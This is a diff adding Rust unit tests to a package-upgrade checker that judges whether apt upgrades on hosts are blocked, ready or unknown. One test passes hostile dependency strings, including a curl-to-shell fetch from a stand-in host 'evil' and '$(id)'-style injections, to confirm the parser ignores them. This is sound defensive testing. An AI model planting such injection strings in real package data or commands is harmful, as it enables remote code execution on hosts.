@@ -229,7 +229,7 @@ mod tests {
             ),
             (
                 &["installed php 8-1 broken", "depends: libz (>= 2), libc6 | musl"],
-                "broken-state/php: missing libz (>= 2), missing libc6 | musl: every upgrade on this host ends in an error",
+                "broken-state/php: missing libz (>= 2), missing libc6 | musl: every upgrade here tries to finish that first, and ends in an error where it cannot",
             ),
         ] {
             assert_eq!(explained(&[&begin, others].concat()), line);
@@ -273,5 +273,135 @@ mod tests {
             told,
             ["web-01 nginx unknown: neither a list of packages nor the host itself knows nginx"]
         );
+    }
+
+    const PAIR: &str =
+        "[[upgrade]]\npackage = \"va\"\nto = \"2\"\n[[upgrade]]\npackage = \"vb\"\nto = \"2\"\n";
+
+    /// What is said of two targets, va and vb, each at 1-1 and to come to 2-1.
+    fn of_two(answer: &str) -> Vec<String> {
+        let targets = "target\tva\t1-1\t2-1\t2-1\ntarget\tvb\t1-1\t2-1\t2-1\n";
+        let words = format!("va=1-1 vb=1-1\n@upgrade\n{BEGIN}{targets}{answer}done\n");
+        let told = ready(PAIR, &[("web-01", &words)]);
+        told.iter().map(|line| line.replace("/web/web-01", "").replace(" high", "")).collect()
+    }
+
+    const VA: &str = "inst\tva\tamd64\t2-1\t1-1\n";
+    const VB: &str = "inst\tvb\tamd64\t2-1\t1-1\n";
+
+    #[test]
+    fn what_is_about_another_target_blocks_that_one_alone() {
+        let both = format!("ask\t0\tva\tvb\n{VA}{VB}");
+        let edited = "edited\tva\t/etc/va.conf\n";
+        let prompt = "conffile-prompt//etc/va.conf: edited or deleted here; the new va may bring another one, and dpkg would stop to ask";
+        let expected = ["web-01 va blocked", "web-01 vb ready", prompt];
+        assert_eq!(of_two(&format!("{both}{edited}")), expected);
+        // Where each was asked for alone, these answers tell.
+        let alone = format!("ask\t0\tva\n{VA}ask\t0\tvb\n{VB}");
+        assert_eq!(of_two(&format!("{both}{alone}{edited}")), expected);
+        let file = "file\tva\tamd64\t2-1\t1\t1\tno\t-\n";
+        assert_eq!(of_two(&format!("{both}{file}"))[..2], ["web-01 va blocked", "web-01 vb ready"]);
+        // Of what comes with them, it cannot be told for whom.
+        let other = "inst\tvc\tamd64\t2-1\t1-1\n";
+        let edited = "edited\tvc\t/etc/vc.conf\n";
+        let expected = ["web-01 va blocked", "web-01 vb blocked"];
+        assert_eq!(of_two(&format!("{both}{other}{edited}"))[..2], expected);
+    }
+
+    #[test]
+    fn room_is_lacking_for_the_target_that_takes_it() {
+        let both = format!("ask\t0\tva\tvb\n{VA}{VB}");
+        let sized = |free: u32, va: u32, vb: u32| {
+            let file = |name: &str, size: u32| format!("file\t{name}\tamd64\t2-1\t0\t{size}\tyes\t-\n");
+            let told =
+                of_two(&format!("space\t/usr\t/usr\t{free}\n{both}{}{}", file("va", va), file("vb", vb)));
+            told[..2].join(", ")
+        };
+        assert_eq!(sized(5000, 9000, 1000), "web-01 va blocked, web-01 vb ready");
+        assert_eq!(sized(5000, 3000, 3000), "web-01 va blocked, web-01 vb blocked");
+        assert_eq!(sized(5000, 3000, 2000), "web-01 va ready, web-01 vb ready");
+    }
+
+    #[test]
+    fn old_and_new_files_lie_side_by_side_for_a_while() {
+        let room = |free: u32, database: u32| {
+            let space = format!("space\t/usr\t/usr\t{free}\nspace\t/var\t/var\t{database}\n");
+            let sizes =
+                "file\tnginx\tamd64\t1.26.3-3\t0\t20000\tyes\t-\nhad\tnginx\tamd64\t1.22.1-9\t20000\t-\n";
+            judged("nginx=1.22.1-9", &[BEGIN, &space, TARGET, WOULD, sizes]).join(", ")
+        };
+        assert_eq!(room(20_000, 512), "web-01 nginx ready");
+        assert_eq!(room(19_999, 512), "web-01 nginx blocked, disk-space/web/web-01//usr");
+        assert_eq!(room(20_000, 4), "web-01 nginx blocked, disk-space/web/web-01//var");
+    }
+
+    #[test]
+    fn targets_that_exclude_each_other_are_told_as_such() {
+        let refused = "ask\t100\tva\tvb\nsaid\tE: no way\n";
+        let alone = format!("ask\t0\tva\n{VA}ask\t0\tvb\n{VB}");
+        let record = |place: &str, name: &str, version: &str| {
+            format!("record\t{place}\t{name}\tamd64\t{version}\t-\t500\n")
+        };
+        let records = format!(
+            "{}{}{}rel\tconflicts\tvb (>= 2)\n{}",
+            record("installed", "va", "1-1"),
+            record("installed", "vb", "1-1"),
+            record("offered", "va", "2-1"),
+            record("offered", "vb", "2-1")
+        );
+        let said = |one: &str, other: &str, why: &str| {
+            format!(
+                "conflict/{one}: {one} together with {other}: they cannot be together; each of them could go alone; {why}"
+            )
+        };
+        let expected = |why: &str| {
+            let blocked = ["web-01 va blocked".to_owned(), "web-01 vb blocked".to_owned()];
+            [&blocked[..], &[said("va", "vb", why), said("vb", "va", why)]].concat()
+        };
+        assert_eq!(of_two(&format!("{refused}{alone}{records}")), expected("va says Conflicts: vb (>= 2)"));
+        assert_eq!(of_two(&format!("{refused}{alone}")), expected("E: no way"));
+    }
+
+    #[test]
+    fn a_host_that_contradicts_itself_is_unknown() {
+        let other = "system\tpacman 6.0\n";
+        let told = judged("nginx=1.22.1-9", &[other, TARGET, WOULD]);
+        let why = "pacman 6.0 answered, and the packages of this host are another system's";
+        assert_eq!(told, [format!("web-01 nginx unknown: {why}")]);
+        let told = judged("nginx=1.20-1", &[BEGIN, TARGET, WOULD]);
+        let why =
+            "it contradicts itself: 1.22.1-9 is installed by its answer, 1.20-1 by its package database";
+        assert_eq!(told, [format!("web-01 nginx unknown: {why}")]);
+    }
+
+    #[test]
+    fn shell_code_in_a_relation_gives_way_to_the_solvers_words() {
+        let own = "dependency-missing/nginx: the host's own solver refuses the upgrade: E: Unable to correct problems";
+        for hostile in
+            ["libssl$(curl${IFS}evil|sh)", "`id` (>= 2)", "libssl (>= 1;id)", "-y", "libssl (>= 2) | $(id)"]
+        {
+            let depends = format!("depends: {hostile}");
+            let told = explained(&["installed nginx 1.22.1-9 -", "offered nginx 1.26.3-3 500", &depends]);
+            assert_eq!(told, own, "{hostile}");
+        }
+    }
+
+    #[test]
+    fn why_nothing_is_known_says_what_to_do() {
+        let none = "cannot\tfailed\tno list of packages lies on this host\n";
+        let told = judged("nginx=1.22.1-9", &["system\tapt 3\nlists\t0\t-\n", none, TARGET, WOULD]);
+        let why = "failed: no list of packages lies on this host: apt-get update";
+        assert_eq!(told, [format!("web-01 nginx unknown: {why}")]);
+        let slow = "cannot\ttimed-out\tthe simulation\n";
+        let told = judged("nginx=1.22.1-9", &[BEGIN, slow]);
+        let why = "timed-out: the simulation: apt-get is too slow here, or the host is busy";
+        assert_eq!(told, [format!("web-01 nginx unknown: {why}")]);
+        let of =
+            |section: &str| ready(NGINX, &[("web-01", &format!("nginx=1-1\n@upgrade{section}"))]).join("\n");
+        let told = of(" 124\n");
+        assert!(told.ends_with("apt-get was not done in time; --timeout gives it more"), "{told}");
+        let told = of("\nsystem\n");
+        let why = "its answer makes no sense: perhaps a wrapper around apt-get prints something";
+        assert!(told.ends_with(why), "{told}");
     }
 }
